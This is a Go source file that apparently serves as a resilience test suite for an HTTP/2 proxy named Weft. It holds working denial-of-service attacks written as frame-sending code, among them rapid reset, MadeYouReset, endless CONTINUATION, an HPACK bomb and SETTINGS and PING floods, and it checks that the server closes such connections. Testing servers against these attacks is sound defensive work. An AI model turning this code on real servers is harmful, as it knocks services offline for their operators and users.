package h2

import (
	"bytes"
	"errors"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is a client behavior that can harm a server.
type attack struct {
	name     string
	settings []http2.Setting
	// neverReads means that the attacker does not read.
	neverReads bool
	// mustClose means that the server must close the connection. Other attacks cost the attacker as
	// much as the server.
	mustClose bool
	// cost is the maximum CPU time of the server per frame; 0: costPerFrame.
	cost time.Duration
	// send sends some frames. It is called until attackTime is over or the connection ends.
	send func(a *attacker) error
}

// costPerFrame is the default limit of attack.cost. A forwarded request takes two frames and less
// CPU time than two of these, even on a busy machine.
const costPerFrame = 20 * time.Microsecond

// batch is how many times a round sends its frames before it checks the time.
const batch = 100

// repeated returns a send function that calls send batch times.
func repeated(send func(a *attacker) error) func(a *attacker) error {
	return func(a *attacker) error {
		for range batch {
			if err := send(a); err != nil {
				return err
			}
		}
		return a.out.Flush()
	}
}

// once returns a send function that calls send once and then keeps the connection open.
func once(send func(a *attacker) error) func(a *attacker) error {
	return func(a *attacker) error {
		if a.frames == 0 {
			if err := errors.Join(send(a), a.out.Flush()); err != nil {
				return err
			}
		}
		return errKeepOpen
	}
}

// errKeepOpen reports that an attack has nothing more to send and keeps the connection open.
var errKeepOpen = errors.New("the connection stays open")

// attacks lists all attacks. Those with requests use the path /away, which Weft forwards to an
// origin.
func attacks() []attack {
	return append(floods(), memoryAttacks()...)
}

// floods lists attacks by the number of frames.
func floods() []attack {
	return []attack{
		{name: "rapid reset", mustClose: true, send: repeated(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.countFrame(a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel)))
		})},
		{name: "MadeYouReset by an empty window update", mustClose: true, send: repeated(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.countFrame(a.framer.WriteWindowUpdate(a.stream, 0)))
		})},
		{name: "MadeYouReset by a window overflow", mustClose: true, send: repeated(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.countFrame(a.framer.WriteWindowUpdate(a.stream, 1<<31-1)))
		})},
		{name: "MadeYouReset by DATA after END_STREAM", mustClose: true, send: repeated(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.countFrame(a.framer.WriteData(a.stream, false, []byte("more"))))
		})},
		{name: "malformed requests", mustClose: true, send: repeated(func(a *attacker) error {
			return a.open("/away", true, hpack.HeaderField{Name: "Upper", Value: "case"})
		})},
		{name: "streams beyond the limit", send: repeated(func(a *attacker) error {
			return a.open("/wait/1m", true)
		})},
		{name: "endless CONTINUATION", mustClose: true, send: func(a *attacker) error {
			if err := a.openWithoutEnd(); err != nil {
				return err
			}
			return repeated(func(a *attacker) error {
				return a.countFrame(a.framer.WriteContinuation(a.stream, false, a.literal(1000)))
			})(a)
		}},
		{name: "endless empty CONTINUATION", mustClose: true, send: func(a *attacker) error {
			if err := a.openWithoutEnd(); err != nil {
				return err
			}
			return repeated(func(a *attacker) error { return a.countFrame(a.framer.WriteContinuation(a.stream, false, nil)) })(a)
		}},
		{name: "SETTINGS", send: repeated(func(a *attacker) error { return a.countFrame(a.framer.WriteSettings()) })},
		{name: "SETTINGS, acknowledgements unread", neverReads: true, send: repeated(func(a *attacker) error {
			return a.countFrame(a.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096}))
		})},
		{name: "PING", send: repeated(func(a *attacker) error { return a.countFrame(a.framer.WritePing(false, [8]byte{1})) })},
		{name: "PING, acknowledgements unread", neverReads: true, send: repeated(func(a *attacker) error {
			return a.countFrame(a.framer.WritePing(false, [8]byte{1}))
		})},
		{name: "PRIORITY", send: repeated(func(a *attacker) error {
			return a.countFrame(a.framer.WritePriority(uint32(a.frames)*2%1000+1, http2.PriorityParam{StreamDep: 0, Weight: 1}))
		})},
		{name: "empty DATA", mustClose: true, send: func(a *attacker) error {
			if err := a.openOnce("/away"); err != nil {
				return err
			}
			return repeated(func(a *attacker) error { return a.countFrame(a.framer.WriteData(a.stream, false, nil)) })(a)
		}},
		{name: "padding as DATA", send: func(a *attacker) error {
			if err := a.openOnce("/away"); err != nil {
				return err
			}
			// Stay within the initial window of all servers.
			for range batch {
				if err := a.countFrame(a.framer.WriteDataPadded(a.stream, false, nil, make([]byte, 200))); err != nil {
					return err
				}
			}
			return errors.Join(a.out.Flush(), errKeepOpen)
		}},
		{name: "connection window updates", send: repeated(func(a *attacker) error {
			return a.countFrame(a.framer.WriteWindowUpdate(0, 1))
		})},
		{
			name: "connection window updates with stream windows of 0", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			send: func(a *attacker) error {
				for a.frames < 90 {
					if err := a.open("/bytes/1000", true); err != nil {
						return err
					}
				}
				return repeated(func(a *attacker) error { return a.countFrame(a.framer.WriteWindowUpdate(0, 256)) })(a)
			},
		},
		{name: "stream window updates", send: func(a *attacker) error {
			if err := a.openOnce("/away"); err != nil {
				return err
			}
			return repeated(func(a *attacker) error { return a.countFrame(a.framer.WriteWindowUpdate(a.stream, 1)) })(a)
		}},
	}
}

// memoryAttacks lists attacks by the resources that the server must hold.
func memoryAttacks() []attack {
	wide := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
	return []attack{
		{name: "HPACK bomb", cost: 2 * time.Millisecond, send: func(a *attacker) error { return errors.Join(a.hpackBomb(), a.out.Flush()) }},
		{name: "header lists of 1 MB", cost: 60 * time.Microsecond, send: func(a *attacker) error { return errors.Join(a.largeHead(1<<20), a.out.Flush()) }},
		{name: "slow reader of large responses", neverReads: true, settings: wide, send: once(func(a *attacker) error {
			errs := []error{a.countFrame(a.framer.WriteWindowUpdate(0, 1<<31-1-65535))}
			for range 50 {
				errs = append(errs, a.open("/bytes/100000000", true))
			}
			return errors.Join(errs...)
		})},
		{
			name: "reader without a window", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			send: once(func(a *attacker) error {
				var errs []error
				for range 50 {
					errs = append(errs, a.open("/bytes/100000000", true))
				}
				return errors.Join(errs...)
			}),
		},
		{name: "unread uploads", send: once(func(a *attacker) error {
			var errs []error
			for range 50 {
				errs = append(errs, a.open("/stall", false))
				for range 4 { // up to the window of the stream and beyond the window of the connection
					errs = append(errs, a.countFrame(a.framer.WriteData(a.stream, false, make([]byte, 16<<10-1))))
				}
			}
			return errors.Join(errs...)
		})},
		{name: "endless heads", send: once(func(a *attacker) error {
			if err := a.openWithoutEnd(); err != nil {
				return err
			}
			return a.countFrame(a.framer.WriteContinuation(a.stream, false, a.literal(8000)))
		})},
	}
}

// openOnce opens a stream for a request with a body, if none is open.
func (a *attacker) openOnce(path string) error {
	if a.stream != 0 {
		return nil
	}
	return a.open(path, false)
}

// openWithoutEnd opens a stream with a header block that continues, if none is open.
func (a *attacker) openWithoutEnd() error {
	if a.stream != 0 {
		return nil
	}
	if err := a.nextStream(); err != nil {
		return err
	}
	return a.countFrame(a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.encode("GET", "/away")}))
}

// literal encodes a field of about size bytes that is never indexed.
func (a *attacker) literal(size int) []byte {
	a.block.Reset()
	// Writes to memory.
	_ = a.encoder.WriteField(hpack.HeaderField{Name: "x-literal", Value: strings.Repeat("!", size), Sensitive: true})
	return a.block.Bytes()
}

// hpackBomb adds a field of 4 KB to the dynamic table and refers to it 15,000 times in one frame:
// 16 KB on the wire become about 60 MB of headers.
func (a *attacker) hpackBomb() error {
	const (
		names  = 15_000
		newest = 0x80 | 62 // index of the newest entry of the dynamic table
	)
	if a.stream == 0 {
		large := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}
		if err := a.open("/away", true, large); err != nil {
			return err
		}
	}
	if err := a.nextStream(); err != nil {
		return err
	}
	block := append(a.encode("GET", "/away"), bytes.Repeat([]byte{newest}, names)...)
	return a.countFrame(a.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: a.stream, BlockFragment: block, EndStream: true, EndHeaders: true,
	}))
}

// largeHead sends a header block of about size bytes in several frames.
func (a *attacker) largeHead(size int) error {
	if err := a.nextStream(); err != nil {
		return err
	}
	err := a.countFrame(a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.encode("GET", "/away"), EndStream: true}))
	for n := 0; n < size && err == nil; n += 10_000 {
		err = a.countFrame(a.framer.WriteContinuation(a.stream, n+10_000 >= size, a.literal(10_000)))
	}
	return err
}
